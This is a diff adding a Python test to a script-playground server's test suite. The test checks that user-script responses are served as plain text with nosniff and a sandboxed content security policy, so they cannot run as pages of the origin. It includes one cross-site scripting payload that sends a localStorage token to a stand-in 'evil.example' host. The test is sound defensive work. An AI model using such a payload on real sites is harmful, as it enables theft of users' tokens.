@@ -214,3 +214,18 @@ def test_lone_surrogates_in_logs_and_errors_are_no_500(srv: Server, code: str) -
         else:
             assert body["result"] == 1 and body["logs"], body
     assert call(srv, save(srv, secret, "return 2")).json() == 2  # the runtime came back
+
+
+def test_a_script_answer_is_never_a_page_of_this_origin(srv: Server) -> None:
+    """The playground keeps a tenant's token in this origin's localStorage: a script's answer
+    (anyone's URL) must not be rendered as a page of this origin, whatever text it returns."""
+    script = save(srv, token(srv), "return input.query.page")
+    page = "<html><script>fetch('//evil.example/?' + localStorage.getItem('t'))</script></html>"
+    for answer in (call(srv, script, params={"page": page}), call(srv, script, params={"page": "x"}, headers={
+            "Accept": "text/html"})):
+        assert answer.status_code == 200 and answer.headers["content-type"] == "text/plain; charset=utf-8"
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert "sandbox" in answer.headers["content-security-policy"].split(";")[0]
+    failed = call(srv, save(srv, token(srv), "throw new Error(input.query.page); return 1"), params={"page": page})
+    assert failed.headers["content-type"] == "application/json" and "sandbox" in failed.headers[
+        "content-security-policy"]
